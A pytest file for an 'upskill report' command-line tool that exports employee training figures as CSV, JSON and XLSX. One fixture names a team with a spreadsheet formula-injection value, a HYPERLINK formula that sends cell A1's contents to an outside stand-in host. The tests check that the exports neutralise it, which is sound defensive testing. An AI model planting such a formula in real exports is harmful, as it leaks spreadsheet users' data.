"""`upskill report NAME`: the same figures headless, as CSV, JSON and XLSX."""

from __future__ import annotations

import io
import json
import subprocess
import sys

import pandas as pd
import pytest
from typer.testing import CliRunner

from cli.main import app
from cli.report import REPORTS
from tests.builders import Org
from tests.conftest import PROJECT_ROOT


@pytest.fixture
def db(engine, db_url):
    """A small organisation in the test database; returns the environment pointing at it."""
    from sqlmodel import Session

    with Session(engine) as session:
        org = Org(session)
        org.team("Cloud")
        org.team("Ops")
        org.employee("E1", team="Cloud", hired="2019-01-01", target=100, name="Zoë Ångström")
        org.employee("E2", team="Ops", hired="2020-12-30")
        org.log("E1", "2020-12-31", 120)
        org.log("E2", "2021-01-05", 300)
        org.credential("C1", cost=100, grants={"Go": 2})
        org.target("Cloud", "Go", level=2, headcount=1)
        org.enroll("E2", "C1", assigned="2020-12-30", due="2021-01-04")
        org.commit()
    return {"UPSKILL_DATABASE_URL": db_url}


def run(env, *args: str):
    result = CliRunner().invoke(app, ["report", *args], env=env)
    assert result.exit_code == 0, result.output
    return result.stdout


def test_weekly_hours_csv_by_employee_team_and_org(db):
    period = ["--from", "2020-12-28", "--to", "2021-01-10"]  # 2020-W53 and 2021-W01
    assert run(db, "weekly-hours", *period) == (  # (CliRunner reads the CRLF line ends as \n)
        "employee_code,team,week,minutes,target_minutes,met_target\n"
        "E1,Cloud,2020-W53,120,100,true\n"
        "E1,Cloud,2021-W01,0,100,false\n"
        "E2,Ops,2020-W53,0,240,false\n"  # hired Wednesday of W53: counts
        "E2,Ops,2021-W01,300,240,true\n"
    )
    assert run(db, "weekly-hours", *period, "--by", "team").splitlines() == [
        "team,week,employees,minutes,avg_minutes_per_employee,share_meeting_target",
        "Cloud,2020-W53,1,120,120.0,1.0",
        "Cloud,2021-W01,1,0,0.0,0.0",
        "Ops,2020-W53,1,0,0.0,0.0",
        "Ops,2021-W01,1,300,300.0,1.0",
    ]
    assert run(db, "weekly-hours", *period, "--by", "org").splitlines() == [
        "week,employees,minutes,avg_minutes_per_employee,share_meeting_target",
        "2020-W53,2,120,60.0,0.5",
        "2021-W01,2,300,150.0,0.5",
    ]


def test_every_report_runs_and_writes_a_header(db):
    for report in REPORTS:
        text = run(db, report.name, "--as-of", "2021-01-10", "--from", "2020-12-01", "--to", "2021-01-10")
        assert text.splitlines()[0].count(",") >= 2, report.name


def test_overdue_csv_has_iso_dates_and_utf8_names(db):
    rows = list(pd.read_csv(io.StringIO(run(db, "overdue", "--as-of", "2021-01-10"))).itertuples(index=False))
    assert [(r.employee_code, r.due_date, r.days_overdue) for r in rows] == [("E2", "2021-01-04", 6)]
    gaps = run(db, "skill-gaps", "--as-of", "2021-01-10")
    assert "E1 Zoë Ångström (level 0)" in gaps


def test_json_and_xlsx(db, tmp_path):
    records = json.loads(run(db, "overdue", "--as-of", "2021-01-10", "--format", "json"))
    assert records[0]["assigned_on"] == "2020-12-30" and records[0]["days_overdue"] == 6
    target = tmp_path / "weekly.xlsx"
    run(
        db,
        "weekly-hours",
        "--from",
        "2020-12-28",
        "--to",
        "2021-01-10",
        "--format",
        "xlsx",
        "--output",
        str(target),
    )
    sheet = pd.read_excel(target)
    assert list(sheet.columns) == ["employee_code", "team", "week", "minutes", "target_minutes", "met_target"]
    assert sheet.minutes.tolist() == [120, 0, 0, 300]
    out = tmp_path / "out.csv"
    run(db, "inactive", "--as-of", "2021-01-10", "--weeks", "1", "--output", str(out))
    assert out.read_text(encoding="utf-8").startswith("employee_code,full_name,team,hire_date")


@pytest.fixture
def hostile_team(engine, db):
    """A team whose name a spreadsheet would run as a formula."""
    from sqlmodel import Session

    with Session(engine) as session:
        org = Org(session)
        org.team(HYPERLINK)
        org.employee("E9", team=HYPERLINK, hired="2020-01-01")
        org.log("E9", "2021-01-05", 60)
        org.commit()
    return db


HYPERLINK = '=HYPERLINK("http://example.net/?q="&A1,"Open")'


def test_report_csv_neutralises_formulas(hostile_team):
    text = run(hostile_team, "weekly-hours", "--from", "2021-01-04", "--to", "2021-01-10", "--by", "team")
    cells = [row.split(",")[0] for row in text.splitlines()[1:]]
    assert all(not cell.startswith("=") for cell in cells)
    assert pd.read_csv(io.StringIO(text))["team"].tolist().count("'" + HYPERLINK) == 1


def test_report_xlsx_writes_text_not_formulas(hostile_team, tmp_path):
    import zipfile

    from openpyxl import load_workbook

    target = tmp_path / "teams.xlsx"
    period = ["--from", "2021-01-04", "--to", "2021-01-10", "--by", "team"]
    run(hostile_team, "weekly-hours", *period, "--format", "xlsx", "--output", str(target))
    with zipfile.ZipFile(target) as book:
        assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode()
    teams = [c.value for c in load_workbook(target).active["A"]]
    assert HYPERLINK in teams  # shown exactly as typed, as text


def test_each_report_documents_its_columns_in_its_help():
    for report in REPORTS:
        result = CliRunner().invoke(app, ["report", report.name, "--help"])
        assert result.exit_code == 0
        assert "Columns:" in result.stdout, report.name


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (
            ["weekly-hours", "--from", "2026-13-01"],
            "error: --from must be a date as YYYY-MM-DD, got '2026-13-01'",
        ),
        (["weekly-hours", "--by", "week"], "error: --by must be one of employee, team, org, not 'week'"),
        (["weekly-hours", "--from", "0001-01-01"], "error: --from 0001-01-01 is outside the years 1900-2199"),
        (
            ["weekly-hours", "--from", "1950-01-01", "--to", "2026-01-01"],
            "error: --from 1950-01-01 to 2026-01-01 is more than 20 years; ask for a shorter period",
        ),
        (["weekly-hours", "--team", "Nowhere"], "error: no team named 'Nowhere'"),
        (["overdue", "--format", "xlsx"], "error: --format xlsx needs --output FILE"),
    ],
)
def test_mistakes_end_in_one_line(db, args, message):
    result = subprocess.run(
        [sys.executable, "-m", "cli.main", "report", *args],
        cwd=PROJECT_ROOT,
        env={"PATH": "/usr/bin:/bin", **db},
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.returncode != 0
    assert result.stderr.strip() == message
